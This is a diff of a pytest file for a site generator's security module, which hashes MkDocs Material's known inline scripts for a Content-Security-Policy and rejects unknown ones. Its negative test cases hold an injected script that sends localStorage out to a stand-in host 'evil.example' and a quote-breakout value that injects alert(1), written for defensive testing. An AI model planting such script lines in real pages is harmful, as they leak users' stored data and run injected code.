@@ -5,31 +5,50 @@ from __future__ import annotations
 import base64
 import hashlib
 
-from generator.page_safety import PLACEHOLDER, content_security_policy, harden, inline_script_hashes
+import pytest
 
+from generator.page_safety import (
+    PLACEHOLDER,
+    UnknownInlineScript,
+    content_security_policy,
+    harden,
+    inline_script_hashes,
+    is_known,
+    unknown_inline_scripts,
+)
+
+SCOPE = '__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
+TABS = 'var target=document.getElementById(location.hash.slice(1));target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'
+"""Two of the inline scripts Material 9 writes into every page, as it writes them."""
 PAGE = f"""<head><meta http-equiv="Content-Security-Policy" content="{PLACEHOLDER}">
-<script>var a = 1</script><script src="x.js"></script><script id="__config" type="application/json">{{"a": 1}}</script>
-<script type="application/ld+json">{{}}</script></head><body><script>var a = 1</script><script>var b = 2</script></body>"""
+<script>{SCOPE}</script><script src="x.js"></script><script id="__config" type="application/json">{{"a": 1}}</script>
+<script type="application/ld+json">{{}}</script></head><body><script>{SCOPE}</script><script>{TABS}</script></body>"""
 
 
 def _hash(script: str) -> str:
     return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"
 
 
-def test_only_inline_scripts_that_run_are_hashed_once_each() -> None:
-    assert inline_script_hashes(PAGE) == [_hash("var a = 1"), _hash("var b = 2")]
+def test_materials_inline_scripts_are_known_by_their_exact_text() -> None:
+    assert is_known(SCOPE) and is_known(TABS) and is_known(SCOPE.replace('"../.."', '"https://example.org/site/"'))
+    assert inline_script_hashes(PAGE) == [_hash(SCOPE), _hash(TABS)]
+    for changed in (SCOPE + ";fetch('//evil.example')", SCOPE.replace('"../.."', '"x",location),alert(1),("'), "alert(1)", TABS[:-1], ""):
+        assert not is_known(changed), changed
 
 
-def test_the_policy_allows_this_site_and_those_scripts_only() -> None:
+def test_the_policy_allows_this_site_and_the_known_scripts_only() -> None:
     policy = dict(rule.split(" ", 1) for rule in content_security_policy(PAGE).split("; "))
     assert policy["default-src"] == "'none'" and policy["object-src"] == "'none'"
-    assert policy["script-src"] == f"'self' {_hash('var a = 1')} {_hash('var b = 2')}"
-    assert "'unsafe-inline'" not in policy["style-src"] and "http" not in " ".join(policy.values())
+    assert policy["script-src"] == f"'self' {_hash(SCOPE)} {_hash(TABS)}"
+    assert "'unsafe-inline'" not in content_security_policy(PAGE) and "http" not in " ".join(policy.values())
 
 
-def test_the_offline_copy_allows_inline_scripts_but_no_other_origin() -> None:
-    policy = content_security_policy(PAGE, offline=True)
-    assert "script-src 'self' 'unsafe-inline';" in policy and "sha256" not in policy and "http" not in policy
+def test_an_unknown_inline_script_gets_no_hash_and_stops_the_page() -> None:
+    page = PAGE.replace("</body>", "<script>fetch('https://evil.example/'+localStorage.x)</script></body>")
+    assert unknown_inline_scripts(page) == ["fetch('https://evil.example/'+localStorage.x)"]
+    assert inline_script_hashes(page) == [_hash(SCOPE), _hash(TABS)]
+    with pytest.raises(UnknownInlineScript, match="evil.example"):
+        harden(page, "https://example.org/")
 
 
 def test_harden_fills_the_placeholder_once() -> None:
@@ -50,3 +69,9 @@ def test_links_that_leave_the_site_get_noopener_noreferrer() -> None:
         '<a href="https://example.org/site/page/">own</a><a href="../faq/">relative</a><a href="mailto:a@b.c">mail</a>'
         '<a href="https://other.example/c" rel="noreferrer noopener">done</a><abbr title="x">A</abbr>'
     )
+
+
+def test_only_the_live_preview_allows_inline_scripts() -> None:
+    """MkDocs' reload script differs in every response of `serve`; no build ever gets this policy."""
+    assert "script-src 'self' 'unsafe-inline';" in content_security_policy(PAGE, preview=True)
+    assert "unsafe-inline" not in harden(PAGE, "https://example.org/")
